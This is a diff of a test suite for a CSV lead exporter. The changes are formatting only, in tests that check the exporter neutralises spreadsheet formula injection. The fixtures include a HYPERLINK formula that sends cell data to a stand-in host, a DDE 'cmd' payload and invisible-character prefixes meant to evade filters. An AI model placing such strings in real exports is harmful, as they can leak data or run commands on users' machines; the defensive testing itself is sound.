@@ -78,7 +78,7 @@ describe('leadsToCsv', () => {
 
   it('guards and escapes the header row too', () => {
     const csv = leadsToCsv([], [{ id: 'x', header: '=evil, "name"', value: () => '' }]);
-    expect(parse(csv)).toEqual([["'=evil, \"name\""]]);
+    expect(parse(csv)).toEqual([['\'=evil, "name"']]);
   });
 
   it('parses back to the same cells for any text (property)', () => {
@@ -140,7 +140,7 @@ describe('formula injection (issue 11, attack 5)', () => {
   const names = [
     'Acme;=HYPERLINK("http://evil.example/?d="&A1;"Open")',
     'Acme\t=1+1',
-    '\u00A0=cmd|\' /C calc\'!A0',
+    "\u00A0=cmd|' /C calc'!A0",
     '\u200B\u200D=1+1',
     '\uFEFF+SUM(1;2)',
     '  @SUM(A1:A9)',
@@ -175,10 +175,19 @@ describe('formula injection (issue 11, attack 5)', () => {
   it('leaves no piece that runs for any text (property)', () => {
     const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ';', ',', ' ', '\u00A0', '\u200B', '\uFEFF', 'a', '1', '"', '\n');
     fc.assert(
-      fc.property(fc.array(fc.array(piece, { maxLength: 12 }).map((p) => p.join('')), { minLength: 1, maxLength: 5 }), (texts) => {
-        const csv = leadsToCsv(texts.map((a) => ({ a, b: '' })), columns);
-        expect(formulaPieces(csv)).toEqual([]);
-      }),
+      fc.property(
+        fc.array(
+          fc.array(piece, { maxLength: 12 }).map((p) => p.join('')),
+          { minLength: 1, maxLength: 5 },
+        ),
+        (texts) => {
+          const csv = leadsToCsv(
+            texts.map((a) => ({ a, b: '' })),
+            columns,
+          );
+          expect(formulaPieces(csv)).toEqual([]);
+        },
+      ),
       // A fixed seed keeps CI deterministic; many runs keep the search wide.
       { numRuns: 3000, seed: 20261201 },
     );
